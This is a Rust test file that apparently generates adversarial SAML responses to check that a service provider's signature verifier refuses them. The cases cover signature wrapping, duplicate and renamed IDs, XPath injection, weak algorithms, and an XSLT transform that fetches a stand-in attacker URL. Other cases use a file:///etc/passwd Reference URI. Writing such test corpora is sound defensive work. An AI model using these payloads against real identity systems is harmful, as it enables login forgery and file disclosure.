//! §1.C reference, ID and SignedInfo confusion (REF1–REF11) and §1.F
//! transforms and algorithms (ALG1–ALG6).

use super::*;

/// §1.C reference, ID and SignedInfo confusion. Edits inside SignedInfo
/// are re-signed with the IdP's key (`resign`): the IdP "really signed"
/// the odd shape, so only our shape rules stand between it and a login.
pub(super) fn references(out: &mut Vec<Case>, both: &Fresh, assn: &Fresh) {
    let x = &assn.xml;
    let pkey = assn.pkey();
    let edited = to_evil(x);
    let new_digest = digest_of(&edited, &["Assertion"]);
    let dv = path(A_SIG, &["SignedInfo", "Reference", "DigestValue"]);
    out.push(
        refused(
            "REF1",
            "",
            "assertion edited; its digest placed in a ds:DigestValue in samlp:Extensions, SignedInfo untouched",
            assn,
            insert_after(
                &edited,
                &["Issuer"],
                &format!(
                    "<samlp:Extensions><ds:DigestValue xmlns:ds=\"{DSIG_NS}\">{new_digest}</ds:DigestValue></samlp:Extensions>"
                ),
            ),
            Reason::DigestMismatch,
        )
        .corpus(),
    );
    let orig_digest = parse_text(x, &dv);
    // REF2: any comment inside ds:Signature is a shape error before the
    // digest is compared (which would mismatch too).
    out.push(
        refused(
            "REF2",
            "",
            "assertion edited; its digest in a comment inside the original DigestValue",
            assn,
            set_inner(&edited, &dv, &format!("<!--{new_digest}-->{orig_digest}")),
            Reason::SignatureShapeInvalid,
        )
        .corpus(),
    );
    // REF3: a second SignedInfo (sibling) whose Reference digests an
    // attacker element.
    let with_evil = insert_after(
        x,
        &["Issuer"],
        "<samlp:Extensions><Evil ID=\"OUR_CUSTOM_ID\">admin</Evil></samlp:Extensions>",
    );
    let forged_si = get(x, &path(A_SIG, &["SignedInfo"]))
        .replace(
            &format!("URI=\"#{}\"", assn.assertion_id),
            "URI=\"#OUR_CUSTOM_ID\"",
        )
        .replace(
            &get(x, &dv),
            &format!(
                "<ds:DigestValue>{}</ds:DigestValue>",
                digest_of(&with_evil, &["Extensions", "Evil"])
            ),
        );
    out.push(
        refused(
            "REF3",
            "",
            "a second ds:SignedInfo after the original, referencing an attacker element with a correct digest",
            assn,
            insert_after(&with_evil, &path(A_SIG, &["SignedInfo"]), &forged_si),
            Reason::SignatureShapeInvalid,
        )
        .corpus(),
    );
    // REF4: two References (a duplicate of the first), re-signed by the IdP.
    let reference = get(x, &path(A_SIG, &["SignedInfo", "Reference"]));
    let two_refs = resign(
        &insert_after(x, &path(A_SIG, &["SignedInfo", "Reference"]), &reference),
        A_SIG,
        &pkey,
    );
    out.push(
        refused(
            "REF4",
            "",
            "SignedInfo with a second Reference (a duplicate of the first), signed by the IdP",
            assn,
            two_refs,
            Reason::SignatureShapeInvalid,
        )
        .corpus(),
    );
    // REF5 (I4): the Response's ID repeated inside Extensions.
    out.push(refused(
        "REF5",
        "",
        "the Response's ID duplicated on an element inside samlp:Extensions",
        both,
        insert_after(
            &both.xml,
            R_SIG,
            &format!(
                "<samlp:Extensions><x ID=\"{}\"/></samlp:Extensions>",
                both.response_id
            ),
        ),
        Reason::DuplicateId,
    ));
    // REF6: only the unqualified ID attribute is an ID.
    let renamed = format!("Id=\"{}\"", assn.assertion_id);
    out.push(refused(
        "REF6",
        "",
        "the signed assertion's ID attribute renamed to Id (attribute pollution)",
        assn,
        x.replacen(&format!("ID=\"{}\"", assn.assertion_id), &renamed, 1),
        Reason::IdInvalid,
    ));
    out.push(refused(
        "REF6",
        "ns-equivalent",
        "two namespace-equivalent ID attributes (a:ID and b:ID, one URI)",
        assn,
        set_attr(
            x,
            &["Assertion", "Subject"],
            "xmlns:a=\"urn:x\" xmlns:b=\"urn:x\" a:ID=\"_p\" b:ID",
            "_q",
        ),
        Reason::DuplicateAttribute,
    ));
    let reference_path = path(A_SIG, &["SignedInfo", "Reference"]);
    for (variant, uri, what) in [
        ("empty", "", "URI=\"\" (the whole document)"),
        ("hash-only", "#", "URI=\"#\""),
        ("xpointer-root", "#xpointer(/)", "URI=\"#xpointer(/)\""),
        (
            "xpointer-id",
            "#xpointer(id('ID'))",
            "URI=\"#xpointer(id('…'))\"",
        ),
        ("no-hash", "ID", "the ID without '#'"),
        ("external", "http://attacker.test/x", "an external http URI"),
        ("file", "file:///etc/passwd", "a file URI"),
    ] {
        let uri = uri.replace("ID", &assn.assertion_id);
        out.push(refused(
            "REF7",
            variant,
            &format!("Reference {what}, signed by the IdP"),
            assn,
            resign(&set_attr(x, &reference_path, "URI", &uri), A_SIG, &pkey),
            Reason::ReferenceUriInvalid,
        ));
    }
    out.push(refused(
        "REF8",
        "",
        "XPath injection in the Reference URI (#x'] or eval(...) or /[@ID='v)",
        assn,
        resign(
            &set_attr(
                x,
                &reference_path,
                "URI",
                "#x'] or eval('$evalled = true') or /[@ID='v",
            ),
            A_SIG,
            &pkey,
        ),
        Reason::ReferenceUriInvalid,
    ));
    let sig = get(x, A_SIG);
    out.push(refused(
        "REF9",
        "",
        "the assertion's Signature moved after Subject",
        assn,
        insert_after(&remove(x, A_SIG), &["Assertion", "Subject"], &sig),
        Reason::SignatureMisplaced,
    ));
    out.push(refused(
        "REF9",
        "twice",
        "the assertion carries its Signature twice",
        assn,
        insert_after(x, A_SIG, &sig),
        Reason::SignatureMisplaced,
    ));
    out.push(refused(
        "REF9",
        "status-detail",
        "a copy of the assertion's Signature in samlp:StatusDetail",
        both,
        append_child(
            &both.xml,
            &["Status"],
            &format!(
                "<samlp:StatusDetail>{}</samlp:StatusDetail>",
                get(&both.xml, A_SIG)
            ),
        ),
        Reason::UnexpectedSignature,
    ));
    let c14n_path = path(A_SIG, &["SignedInfo", "CanonicalizationMethod"]);
    for (variant, alg) in [
        (
            "inclusive",
            "http://www.w3.org/TR/2001/REC-xml-c14n-20010315",
        ),
        (
            "with-comments",
            "http://www.w3.org/2001/10/xml-exc-c14n#WithComments",
        ),
        ("c14n11", "http://www.w3.org/2006/12/xml-c14n11"),
    ] {
        out.push(refused(
            "REF10",
            variant,
            &format!("SignedInfo CanonicalizationMethod {alg}, signed by the IdP"),
            assn,
            resign(&set_attr(x, &c14n_path, "Algorithm", alg), A_SIG, &pkey),
            Reason::AlgorithmForbidden,
        ));
    }
    let sv = path(A_SIG, &["SignatureValue"]);
    let value = parse_text(x, &sv);
    let wrapped: Vec<&str> = value
        .as_bytes()
        .chunks(64)
        .map(|c| std::str::from_utf8(c).unwrap())
        .collect();
    out.push(accepted(
        "REF11",
        "",
        "SignatureValue line-wrapped every 64 characters (legal base64Binary whitespace)",
        assn,
        set_inner(x, &sv, &format!("\n{}\n", wrapped.join("\n"))),
    ));
    // A DigestValue that is not base64 cannot match any digest: our
    // verifier names it digest-mismatch (the signature itself verifies).
    out.push(refused(
        "REF11",
        "invalid",
        "DigestValue that is not base64 (re-signed by the IdP)",
        assn,
        resign(&set_inner(x, &dv, "not*base64"), A_SIG, &pkey),
        Reason::DigestMismatch,
    ));
}

fn parse_text(x: &str, p: &[&str]) -> String {
    x[inner(x, p)].to_string()
}

/// §1.F transforms and algorithms (each SignedInfo re-signed by the IdP).
pub(super) fn algorithms(out: &mut Vec<Case>, assn: &Fresh) {
    let x = &assn.xml;
    let pkey = assn.pkey();
    let tp = path(A_SIG, &["SignedInfo", "Reference", "Transforms"]);
    let with_transforms = |inner: &str| resign(&set_inner(x, &tp, inner), A_SIG, &pkey);
    let xslt = "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\">\
                <xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" version=\"2.0\">\
                <xsl:template match=\"/\"><xsl:value-of select=\"unparsed-text('http://attacker.test/x')\"/>\
                </xsl:template></xsl:stylesheet></ds:Transform>";
    out.push(refused(
        "ALG1",
        "",
        "an XSLT transform that would fetch an attacker URL",
        assn,
        with_transforms(&format!("{}{xslt}", transforms(&[ENV, EXC]))),
        Reason::AlgorithmForbidden,
    ));
    let xpath = "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xpath-19991116\">\
                 <ds:XPath xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\">not(ancestor-or-self::saml:Subject)</ds:XPath></ds:Transform>";
    out.push(refused(
        "ALG2",
        "",
        "an XPath transform that leaves the Subject out of the signed bytes",
        assn,
        with_transforms(&format!(
            "{}{xpath}{}",
            transforms(&[ENV]),
            transforms(&[EXC])
        )),
        Reason::AlgorithmForbidden,
    ));
    out.push(refused(
        "ALG3",
        "exc-only",
        "transforms are only [exc-c14n]",
        assn,
        with_transforms(&transforms(&[EXC])),
        Reason::TransformsInvalid,
    ));
    out.push(refused(
        "ALG3",
        "swapped",
        "transforms are [exc-c14n, enveloped-signature]",
        assn,
        with_transforms(&transforms(&[EXC, ENV])),
        Reason::TransformsInvalid,
    ));
    out.push(refused(
        "ALG3",
        "enveloped-twice",
        "transforms are [enveloped, enveloped, exc-c14n]",
        assn,
        with_transforms(&transforms(&[ENV, ENV, EXC])),
        Reason::TransformsInvalid,
    ));
    out.push(refused(
        "ALG3",
        "with-comments",
        "transforms are [enveloped, exc-c14n#WithComments]",
        assn,
        with_transforms(&transforms(&[
            ENV,
            "http://www.w3.org/2001/10/xml-exc-c14n#WithComments",
        ])),
        Reason::AlgorithmForbidden,
    ));
    // No Transforms element at all: XML-DSig allows it, the SAML profile
    // does not; our verifier sees DigestMethod where Transforms must be
    // (signature-shape-invalid; transforms-invalid would be as fair).
    out.push(refused(
        "ALG3",
        "none",
        "no ds:Transforms element",
        assn,
        resign(&remove(x, &tp), A_SIG, &pkey),
        Reason::SignatureShapeInvalid,
    ));
    let legacy = fresh_for(
        Vendor::Generic,
        &ProfileOptions {
            sign: Some(SignWhat::Both),
            legacy_sha1: true,
            ..ProfileOptions::default()
        },
        &String::from_utf8(users_yaml()).unwrap(),
        USER,
    );
    out.push(refused(
        "ALG4",
        "",
        "the IdP signs with rsa-sha1/sha1 (legacy switch off)",
        &legacy,
        legacy.xml.clone(),
        Reason::Sha1Forbidden,
    ));
    out.push(
        accepted(
            "ALG4",
            "legacy-on",
            "the same SHA-1 response with the SP's legacy_sha1 switch on",
            &legacy,
            legacy.xml.clone(),
        )
        .with_cfg(|c| c.legacy_sha1 = true),
    );
    let sm = path(A_SIG, &["SignedInfo", "SignatureMethod"]);
    let dm = path(A_SIG, &["SignedInfo", "Reference", "DigestMethod"]);
    for (variant, at, alg, reason) in [
        (
            "rsa-md5",
            &sm,
            "http://www.w3.org/2001/04/xmldsig-more#rsa-md5",
            Reason::AlgorithmForbidden,
        ),
        (
            "md5-digest",
            &dm,
            "http://www.w3.org/2001/04/xmldsig-more#md5",
            Reason::AlgorithmForbidden,
        ),
        (
            "dsa-sha1",
            &sm,
            "http://www.w3.org/2000/09/xmldsig#dsa-sha1",
            Reason::AlgorithmForbidden,
        ),
        (
            "ecdsa",
            &sm,
            "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256",
            Reason::AlgorithmForbidden,
        ),
        (
            "trailing-space",
            &sm,
            "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256 ",
            Reason::AlgorithmForbidden,
        ),
        (
            "upper-case",
            &sm,
            "http://www.w3.org/2001/04/XMLDSIG-MORE#RSA-SHA256",
            Reason::AlgorithmForbidden,
        ),
    ] {
        out.push(refused(
            "ALG5",
            variant,
            &format!("Algorithm {alg:?}, signed by the IdP"),
            assn,
            resign(&set_attr(x, at, "Algorithm", alg), A_SIG, &pkey),
            reason,
        ));
    }
    out.push(refused(
        "ALG6",
        "",
        "rsa-sha256 SignatureMethod with a sha512 DigestMethod",
        assn,
        resign(
            &set_attr(
                x,
                &dm,
                "Algorithm",
                "http://www.w3.org/2001/04/xmlenc#sha512",
            ),
            A_SIG,
            &pkey,
        ),
        Reason::AlgorithmMismatch,
    ));
}
